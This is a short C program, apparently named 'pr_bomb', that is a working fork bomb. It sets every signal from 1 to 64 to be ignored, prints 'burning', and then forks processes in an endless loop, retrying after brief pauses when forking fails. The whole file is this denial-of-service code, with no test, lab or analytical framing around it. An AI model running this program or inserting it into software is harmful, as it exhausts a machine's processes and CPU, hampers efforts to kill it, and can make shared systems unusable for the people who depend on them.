/* pr_bomb MARK: forks without end, deaf to what can be ignored. MARK is what all of it is called. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
	for (int signo = 1; signo <= 64; signo++)
		signal(signo, SIG_IGN);
	printf("burning\n");
	fflush(stdout);
	for (;;)
		if (fork() < 0)
			usleep(5000);
}
